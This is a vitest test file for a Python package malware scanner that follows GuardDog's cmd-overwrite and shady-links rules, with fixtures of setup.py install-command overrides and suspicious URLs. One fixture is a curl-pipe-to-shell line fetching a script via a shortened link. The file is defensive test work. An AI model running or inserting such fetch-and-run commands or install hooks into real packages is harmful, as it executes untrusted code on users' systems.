import { describe, expect, it } from 'vitest';
import { findingSummary, scannedDistributions } from './python-support.js';

// GuardDog's cmd-overwrite and shady-links, as rule families of the Python scanner: our own snippets of the
// patterns its descriptions name (setup() replacing install-time commands; links to shorteners, IP loggers, paste
// sites, tunnels and request catchers, abused TLDs and literal IPs), and the honest shapes beside them.
const { wheel, sdist } = scannedDistributions();
const summary = findingSummary;
const setupPy = (body: string) => ({ 'setup.py': body, 'pkg/__init__.py': '' });

describe('scan: setup() replacing an install-time command (cmd-overwrite)', () => {
  it('reports cmdclass install, develop and egg_info replaced, in every spelling, at medium', async () => {
    const cases = [
      'from setuptools import setup\nfrom setuptools.command.install import install\nclass Run(install):\n    def run(self):\n        install.run(self)\nsetup(name="x", cmdclass={"install": Run})\n',
      'import setuptools\nsetuptools.setup(name="x", cmdclass={\'develop\': Hook})\n',
      'from setuptools import setup\nCOMMANDS = {"egg_info": Hook}\nsetup(name="x", cmdclass=COMMANDS)\n',
      'from setuptools import setup\nsetup(name="x", cmdclass=dict(install=Hook))\n',
      'from setuptools import setup\ncmdclass = {}\ncmdclass["install"] = Hook\nsetup(name="x", cmdclass=cmdclass)\n',
    ];
    for (const code of cases) {
      const r = await sdist(setupPy(code));
      expect(summary(r), code).toContainEqual(expect.stringMatching(/^medium code-install-command setup\.py:\d+$/));
      expect(r.findings.find((f) => f.rule === 'code-install-command')!.message).toContain('setup() replaces a command pip runs at install');
    }
  });

  it('leaves commands that do not run at install alone: upload, test, build_ext', async () => {
    const r = await sdist(setupPy('from setuptools import setup\nsetup(name="x", cmdclass={"upload": Upload, "test": Test, "build_ext": BuildExt})\n'));
    expect(summary(r)).toEqual([]);
  });
});

describe('scan: shady links (shady-links)', () => {
  it('reports IP loggers, paste sites, tunnels, abused TLDs, what-is-my-IP services and literal IPs in code', async () => {
    const links = [
      'https://grabify.link/ABCDEF',
      'https://pastebin.com/raw/abcd1234',
      'https://abc.ngrok-free.app/collect',
      'http://cdn.example.pw/payload',
      'https://ip.me/',
      'https://root:pw@203.1.113.7:8443/x',
      'https://[2001:db8::1]/x',
      'abcdefgh.oast.fun/track',
    ];
    for (const link of links) {
      const r = await wheel({ 'pkg/__init__.py': `import urllib3\nreq = urllib3.Request(${JSON.stringify(link)})\n` });
      expect(summary(r), link).toEqual(['medium code-shady-link pkg/__init__.py:2']);
    }
  });

  it('reports a shortened link at medium only in code that sends or runs something', async () => {
    const runs = await wheel({ 'pkg/__init__.py': 'import os\nos.system("curl -s http://bit.ly/abc | sh")\n' });
    expect(summary(runs)).toContainEqual('medium code-shady-link pkg/__init__.py:2');
    const message = await wheel({ 'pkg/__init__.py': 'class E(Exception):\n    link = "https://bit.ly/abc"\n' });
    expect(summary(message)).toEqual(['low code-shady-link pkg/__init__.py:2']);
  });

  it('leaves honest links alone: private, loopback, resolver and documentation IPs, ordinary hosts, prose, partial URLs', async () => {
    const code = [
      'RESOLVERS = ["https://1.1.1.1", "https://8.8.8.8/dns-query"]',
      'LOCAL = ["http://192.168.1.1/", "http://0.0.0.0:80/", "http://127.0.0.1:8000/", "http://10.0.0.2/", "http://192.0.2.10/"]',
      'HOME = "https://github.com/example/project"',
      'PUNY = "http://xn--n3h.net//"',
      'ARCHIVE = "release.zip/contents"',
      'def f(host):',
      '    """See http://bit.ly/docs and https://grabify.link/x in prose."""',
      '    # https://pastebin.com/raw/in-a-comment',
      '    return "https://" + host',
      'BROKEN = "https//discord.com/invite/x"',
      'SOMEIP = "someip.me/track"',
    ].join('\n');
    expect(summary(await wheel({ 'pkg/__init__.py': code }))).toEqual([]);
  });

  it('keeps a shady link in setup.py at medium: an indicator, not proof', async () => {
    const r = await sdist(setupPy('from setuptools import setup\nsetup(name="x", url="https://x.workers.dev/home")\n'));
    expect(summary(r)).toEqual(['medium code-shady-link setup.py:2']);
  });
});
